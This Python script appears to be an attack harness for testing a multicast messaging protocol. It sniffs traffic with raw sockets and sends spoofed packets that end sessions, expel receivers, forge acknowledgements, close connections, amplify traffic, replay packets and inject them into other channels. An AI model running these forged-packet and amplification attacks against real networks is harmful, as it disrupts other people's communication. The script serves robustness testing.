#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks a channel from the host of one of its members, whose packets and addresses it has, but not its keys.

attack.py ATTACK INTERFACE ADDRESS SECONDS [GROUP]

Listens to all packets on the interface, and sends forged ones with the source address of whoever it forges. Prints "listening" to stderr
at first. SECONDS after the first packet that it hears it prints, as JSON, how many packets and bytes it sent, and how many bytes came in
answer. The attacks:

heartbeat  says that the session has ended, in the transmitter's name
notice     expels the receiver, in the transmitter's name
status     acknowledges what was sent, in the receiver's name
close      ends a connection, in the caller's name
amplify    requests everything for a receiver that is not, at ADDRESS
again      sends every packet of the session's members again, to all that got one
elsewhere  sends every packet to a group to GROUP, too: that of another channel

Of protected packets it cannot read the fields: it flips the same bits in them, and sends them again.
"""
import json
import os
import socket
import struct
import sys
import time

HEADER = struct.Struct("<BBHIII")
DATA, HEARTBEAT, NAK, REJECT, STATUS, TOPICS, QUERY, JOIN, NOTICE, CONNECT, ACCEPT, REFUSE, CLOSE, LVC = range(1, 15)
HEARTBEAT_FLAGS, STATUS_FLAGS = 16 + 68, 16 + 60
END, ACKNOWLEDGES, EXPELLED, ABANDONED = 1, 4, 4, 1
REMEMBERED = 256
PATIENCE = 60 * int(os.environ.get("LLM_SLOWNESS", "1"))  # seconds until something is heard


def packet(kind, session, body):
    return HEADER.pack(0x10 | kind, 0, HEADER.size + 8 + len(body), session & 0xFFFFFFFF, 0, 0) + struct.pack("<Q", session) + body


def flipped(data, *offsets):
    """Returns the packet with the lowest bits of these bytes changed."""
    data = bytearray(data)
    for offset in offsets:
        data[offset] ^= 1
    return bytes(data)


class Attacker:
    def __init__(self, interface, address, group):
        self.ears = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
        self.ears.bind((interface, 0))
        self.ears.settimeout(0.02)
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        self.own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.own.bind((address, 0))
        self.own.setblocking(False)
        self.address, self.group = address, group
        self.heard, self.latest = [], {}
        self.sent = self.sent_bytes = 0

    def hear(self):
        """Returns (source, destination, payload) of the next UDP packet that is not its own; None: nothing came."""
        try:
            frame = self.ears.recv(65536)
        except socket.timeout:
            return None
        if frame[0] >> 4 != 4 or frame[9] != 17:
            return None
        at = (frame[0] & 15) * 4
        source, destination, size = struct.unpack_from(">HHH", frame, at)
        ends = (socket.inet_ntoa(frame[12:16]), source), (socket.inet_ntoa(frame[16:20]), destination)
        data = frame[at + 8:at + size]
        # Not trains, of which the device makes packets, nor its own, which have this identification.
        if len(data) < HEADER.size or ends[1][0] == self.group or len(data) != struct.unpack_from("<H", data, 2)[0] or frame[4:6] == b"\x13\x37" or self.own.getsockname() in ends:
            return None
        return (*ends, data)

    def send(self, source, destination, data):
        udp = struct.pack(">HHHH", source[1], destination[1], 8 + len(data), 0) + data
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x1337, 0, 64, 17, 0, socket.inet_aton(source[0]),
                           socket.inet_aton(destination[0]))
        self.out.sendto(head + udp, (destination[0], 0))
        self.sent += 1
        self.sent_bytes += len(data)

    def request(self, destination, data):
        """Sends from its own address, to which answers come."""
        self.own.sendto(data, destination)
        self.sent += 1
        self.sent_bytes += len(data)

    def answered(self):
        count = 0
        try:
            while True:
                count += len(self.own.recv(65536))
        except BlockingIOError:
            return count

    # ---------------------------------------------------------------------------------------------------- attacks

    def heartbeat(self, source, destination, data, clear):
        if data[0] & 15 == HEARTBEAT and (not clear or not data[HEARTBEAT_FLAGS] & END):
            self.send(source, destination, flipped(data, HEARTBEAT_FLAGS, 16 + 40))

    def notice(self, source, destination, data, clear):
        kind = data[0] & 15
        heartbeat, status = self.latest.get(HEARTBEAT), self.latest.get(STATUS)
        if kind != STATUS or not heartbeat:
            return
        if not clear:
            return self.send(destination, source, flipped(heartbeat[2], 0, 16 + 60))
        session, lead, clock = (struct.unpack_from("<Q", heartbeat[2], 16 + at)[0] for at in (0, 8, 40))
        receiver = struct.unpack_from("<Q", status[2], 24)[0]
        body = struct.pack("<QQQQQQQIIIIIIBB", receiver, clock, lead, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1000, EXPELLED, 1)
        self.send(destination, source, packet(NOTICE, session, body))

    def status(self, source, destination, data, clear):
        status = self.latest.get(STATUS)
        if data[0] & 15 != HEARTBEAT or not status:
            return
        report = bytearray(status[2])
        if not clear:
            return self.send(status[0], status[1], flipped(report, 16 + 16, 16 + 62 + report[16 + 61] % 8))
        lead, messages, clock = (struct.unpack_from("<Q", data, 16 + at)[0] for at in (8, 32, 40))
        struct.pack_into("<QQQI", report, 16 + 16, lead, lead, clock, 0)
        if report[STATUS_FLAGS] & ACKNOWLEDGES:
            struct.pack_into("<Q", report, 16 + 62 + report[16 + 61] + 8, messages)
            self.send(status[0], status[1], bytes(report))

    def close(self, source, destination, data, clear):
        accept = self.latest.get(ACCEPT)
        if data[0] & 15 not in (DATA, STATUS) or not accept or destination != accept[0]:
            return
        # From the caller to the listener.
        ends = accept[1], destination
        if clear:
            body = struct.pack("<BBQ", ABANDONED, 7, 0) + b"\x04" + socket.inet_aton(ends[0][0]) + struct.pack(">H", ends[0][1])
            self.send(*ends, packet(CLOSE, struct.unpack_from("<Q", accept[2], 16)[0], body))
        elif data[0] & 15 == STATUS:
            self.send(*ends, flipped(data, 0, 2, 3))

    def amplify(self, source, destination, data, clear):
        if data[0] & 15 != HEARTBEAT:
            return
        # In clear the heartbeat has the address; of protected ones the source is as good.
        session, control = struct.unpack_from("<I", data, 4)[0], source
        if clear:
            session = struct.unpack_from("<Q", data, 16)[0]
            control = socket.inet_ntoa(data[16 + 71:16 + 75]), struct.unpack_from(">H", data, 16 + 75)[0]
        own = b"\x04" + socket.inet_aton(self.address) + struct.pack(">H", self.own.getsockname()[1])
        receiver, lead = 0x1000000000000 + self.sent, struct.unpack_from("<I", data, 8)[0]
        nak = struct.pack("<QBBH", receiver, 0, 7, 1) + own + struct.pack("<II", lead - 1 & 0xFFFFFFFF, 1)
        join = struct.pack("<BBBBHIQQQQQ", 1, 0, 0, 7, 0, 0, 0, 0, 0, 0, 0) + own
        self.request(control, packet(NAK, session, nak + bytes(8)))
        self.request(control, packet(QUERY, session, struct.pack("<QIB", receiver + 1, 0, 7) + own + bytes(8)))
        self.request(control, packet(STATUS, session, struct.pack("<QQQQIIIIIBB", receiver + 2, lead, lead, 0, 0, 0, 0, 0, 64, 0, 7)
                                     + own + bytes(8)))
        self.request(control, packet(JOIN, session, struct.pack("<Q", receiver + 3) + join + bytes(8)))
        if not clear:
            self.request(control, data)
            if STATUS in self.latest:
                self.request(control, self.latest[STATUS][2])

    def again(self, source, destination, data, clear):
        del clear
        self.heard = (self.heard + [(source, destination, data)])[-REMEMBERED:]
        for old in self.heard[::16]:
            self.send(*old)
            self.send(old[0], destination, old[2])

    def elsewhere(self, source, destination, data, clear):
        del clear
        if destination[0].startswith("239."):
            self.send(source, (self.group, destination[1]), data)

    def run(self, attack, seconds):
        until, bytes_answered = time.monotonic() + PATIENCE, 0
        while time.monotonic() < until:
            heard = self.hear()
            bytes_answered += self.answered()
            if heard is None:
                continue
            if not self.latest:
                until = time.monotonic() + seconds
            self.latest[heard[2][0] & 15] = heard
            attack(self, *heard, heard[2][0] >> 4 == 1)
        return {"packets": self.sent, "bytes": self.sent_bytes, "answered": bytes_answered}


def main():
    attack, interface, address, seconds, group = *sys.argv[1:4], float(sys.argv[4]), sys.argv[5] if len(sys.argv) > 5 else None
    attacker = Attacker(interface, address, group)
    print("listening", file=sys.stderr, flush=True)
    print(json.dumps(attacker.run(getattr(Attacker, attack), seconds)))


main()
